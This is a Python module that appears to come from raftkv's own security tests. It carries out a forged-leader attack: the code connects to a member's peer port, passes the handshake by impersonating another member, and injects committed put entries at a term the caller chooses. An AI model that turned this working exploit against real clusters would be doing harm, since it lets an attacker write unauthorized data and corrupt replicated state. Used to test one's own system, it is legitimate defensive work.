"""The forged-leader attack on a member's peer port, as someone who merely reaches that port.

Owns: ``forge_leader_append`` — dial a member's peer port over a plain TCP socket (or TLS, when
an ``ssl.SSLContext`` is given), send raftkv's peer handshake claiming to be another member of
the cluster, and one MESSAGES frame carrying a MsgApp at a term of the attacker's choosing; and
``forged_put``, entry data encoded exactly as a member encodes a client's put.

Everything the attack needs is public: the cluster ID and member IDs are in every client
response header and in ``member list``, the target's commit index and term in ``endpoint
status``.  Contract: ``forge_leader_append`` returns once the frame is written (the target's
answer, a MsgAppResp, goes to the member it believes sent it, not back on this connection), or
raises ``ForgeRefusedError`` when the handshake is refused (the remote's error frame) and
``OSError`` (``ssl.SSLError`` included) when the connection or the TLS handshake fails.
"""

from __future__ import annotations

import socket
import ssl
import struct
from collections.abc import Sequence
from dataclasses import dataclass

import crc32c

from raftkv.peer import framing
from raftkv.peer.framing import FrameKind, Hello, StreamKind
from raftkv.proto import rpc_pb2 as pb
from raftkv.raft.codec import encode_message
from raftkv.raft.types import Entry, Message, MessageType
from raftkv.server.requests import RequestKind, encode_request

_HEADER = struct.Struct(">IBI")  # length, kind, crc: raftkv.peer.framing's frame layout


class ForgeRefusedError(ConnectionError):
    """The target refused the forged handshake; ``text`` is its error frame."""

    def __init__(self, code: int, text: str) -> None:
        super().__init__(f"handshake refused ({code}): {text}")
        self.code = code
        self.text = text


@dataclass(frozen=True)
class ForgedAppend:
    """What was sent: the MsgApp, and the member ID the target answered the handshake with."""

    message: Message
    remote_member_id: int


def forged_put(key: bytes, value: bytes, request_id: int = 0x0BAD_0000_0000_0001) -> bytes:
    """Entry data for a put, as ``raftkv.server.kv`` proposes one."""
    body = pb.PutRequest(key=key, value=value).SerializeToString()
    return encode_request(RequestKind.PUT, request_id, body)


def forge_leader_append(
    host: str,
    port: int,
    *,
    cluster_id: int,
    claimed_leader_id: int,
    target_id: int,
    term: int,
    prev_index: int,
    prev_term: int,
    entries: Sequence[bytes],
    entry_term: int | None = None,
    commit: int | None = None,
    ssl_context: ssl.SSLContext | None = None,
    timeout: float = 5.0,
) -> ForgedAppend:
    """Send ``target_id`` a MsgApp from ``claimed_leader_id`` at ``term``.

    The entries (their data) follow ``(prev_index, prev_term)`` in the target's log, each at
    ``entry_term`` (default ``term``), and ``commit`` (default: the last of them) tells the
    target they are committed.
    """
    first = prev_index + 1
    ents = tuple(
        Entry(term if entry_term is None else entry_term, first + i, data=data)
        for i, data in enumerate(entries)
    )
    msg = Message(
        type=MessageType.MSG_APP,
        to=target_id,
        frm=claimed_leader_id,
        term=term,
        log_term=prev_term,
        index=prev_index,
        entries=ents,
        commit=prev_index + len(ents) if commit is None else commit,
    )
    hello = Hello(
        framing.PROTOCOL_VERSION, StreamKind.MESSAGES, cluster_id, claimed_leader_id, target_id
    )
    raw = socket.create_connection((host, port), timeout=timeout)
    sock: socket.socket = raw
    try:
        if ssl_context is not None:
            sock = ssl_context.wrap_socket(raw, server_hostname=host)
        sock.sendall(framing.encode_hello(hello))
        kind, payload = _read_frame(sock)
        if kind == FrameKind.ERROR:
            code, text = framing.decode_error(payload)
            raise ForgeRefusedError(int(code), text)
        if kind != FrameKind.HELLO_OK:
            raise ForgeRefusedError(0, f"unexpected {kind.name} frame after the handshake")
        ok = framing.decode_hello_ok(payload)
        batch = framing.encode_batch_payload([encode_message(msg)])
        sock.sendall(framing.encode_frame(FrameKind.MESSAGES, batch))
        # Half-close and wait for the target to close: the frame has then been read.
        sock.shutdown(socket.SHUT_WR)
        try:
            while sock.recv(4096):
                pass
        except (TimeoutError, OSError):
            pass
    finally:
        sock.close()
    return ForgedAppend(msg, ok.member_id)


def _read_frame(sock: socket.socket) -> tuple[FrameKind, bytes]:
    header = _read_exactly(sock, _HEADER.size)
    length, kind, crc = _HEADER.unpack(header)
    if length > framing.MAX_FRAME_PAYLOAD:
        raise ConnectionError(f"frame of {length} bytes")
    payload = _read_exactly(sock, length)
    if crc32c.crc32c(payload, crc32c.crc32c(header[:5])) != crc:
        raise ConnectionError("frame CRC mismatch")
    return FrameKind(kind), payload


def _read_exactly(sock: socket.socket, n: int) -> bytes:
    buf = bytearray()
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("the target closed the connection")
        buf += chunk
    return bytes(buf)
